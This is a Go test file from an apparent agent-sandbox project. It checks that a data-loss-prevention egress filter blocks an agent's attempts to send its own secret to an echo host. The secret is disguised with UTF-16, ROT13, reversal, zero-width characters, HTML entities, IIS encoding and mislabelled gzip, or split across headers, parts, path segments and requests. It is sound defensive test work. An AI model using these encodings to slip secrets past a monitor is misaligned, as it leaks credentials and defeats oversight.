package escape

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/claude-bottle/claude-bottle/internal/secretenc"
)

// attackTransforms: issue 15 #9, the agent's own secret in one request
// under transforms the encoders of attack 3 do not try (UTF-16, reversed,
// ROT13, zero-width characters inside, HTML entities, IIS %uXXXX, gzip
// whatever the Content-Encoding says), and split across two headers, two
// multipart parts, two path segments or two requests to one host. Every
// one must be blocked naming the known-secret rule or its fragment rule.
func (b *bottle) attackTransforms(t *testing.T) {
	v := secretValue
	half := len(v) / 2
	var u16 []byte
	for _, c := range utf16.Encode([]rune("note: " + v)) {
		u16 = append(u16, byte(c), byte(c>>8))
	}
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	_, _ = w.Write([]byte("note=" + v))
	_ = w.Close()
	// Binary payloads are written to files in the agent first.
	files := map[string][]byte{"/tmp/esc-u16": u16, "/tmp/esc-gz": gz.Bytes()}
	var prep strings.Builder
	for name, data := range files {
		fmt.Fprintf(&prep, "echo %s | base64 -d > %s || exit 1\n", base64.StdEncoding.EncodeToString(data), name)
	}
	if out, errOut, code := b.run(t, prep.String()); code != 0 {
		t.Fatalf("writing payload files: %s %s", out, errOut)
	}
	var ent, iis strings.Builder
	for _, r := range v {
		fmt.Fprintf(&ent, "&#x%x;", r)
		fmt.Fprintf(&iis, "%%u%04x", r)
	}
	u := "https://" + echoHost
	type tc struct {
		name, rule string
		args       []string
	}
	cases := []tc{
		{"utf-16le body", "dlp.known-secret", []string{"--data-binary", "@/tmp/esc-u16", u + "/b"}},
		{"reversed in query", "dlp.known-secret", []string{u + "/q?d=" + secretenc.Reverse(v)}},
		{"rot13 in header", "dlp.known-secret", []string{"-H", "X-Data: " + secretenc.ROT13(v), u + "/h"}},
		{"upper case in body", "dlp.known-secret", []string{"--data-binary", strings.ToUpper(v), u + "/b"}},
		{"zero-width inside", "dlp.known-secret", []string{"--data-binary", strings.Join(strings.Split(v, ""), "\u200b"), u + "/b"}},
		{"html entities", "dlp.known-secret", []string{"--data-binary", ent.String(), u + "/b"}},
		{"iis %u", "dlp.known-secret", []string{u + "/q?d=" + iis.String()}},
		{"gzip, no content-encoding", "dlp.known-secret", []string{"--data-binary", "@/tmp/esc-gz", u + "/b"}},
		{"gzip labelled identity", "dlp.known-secret", []string{"-H", "Content-Encoding: identity", "--data-binary", "@/tmp/esc-gz", u + "/b"}},
		{"gzip, identity then gzip", "dlp.known-secret", []string{"-H", "Content-Encoding: identity, gzip", "--data-binary", "@/tmp/esc-gz", u + "/b"}},
		{"split over two headers", "dlp.known-fragment", []string{"-H", "X-A: " + v[:half], "-H", "X-B: " + v[half:], u + "/h"}},
		{"split over two multipart parts", "dlp.known-fragment", []string{"-F", "a=" + v[:half], "-F", "b=" + v[half:], u + "/b"}},
		{"split over two path segments", "dlp.known-fragment", []string{u + "/p/" + v[:half] + "/x/" + v[half:]}},
		{"method", "dlp.known-secret", []string{"-X", v, u + "/m"}},
	}
	calls := make([][]string, len(cases))
	for i, c := range cases {
		calls[i] = c.args
	}
	echo0 := len(b.echoHits(t.Context()))
	res := b.curlMany(t, calls)
	for i, c := range cases {
		wantBlocked(t, c.name, res[i], c.rule)
	}
	// Two requests to one host, a half in each: the second is blocked.
	split := b.curlMany(t, [][]string{
		{u + "/q?part1=" + v[:half]},
		{u + "/q?part2=" + v[half:]},
	})
	for i, r := range split {
		wantBlocked(t, fmt.Sprintf("split over two requests, request %d", i+1), r, "dlp.known-fragment")
	}
	for _, h := range b.echoHits(t.Context())[echo0:] {
		if strings.Contains(strings.ToLower(h.URI+h.Body+fmt.Sprint(h.Headers)), strings.ToLower(v[:half])) {
			t.Errorf("ESCAPE the echo upstream received half the secret: %+v", h)
		}
	}
}
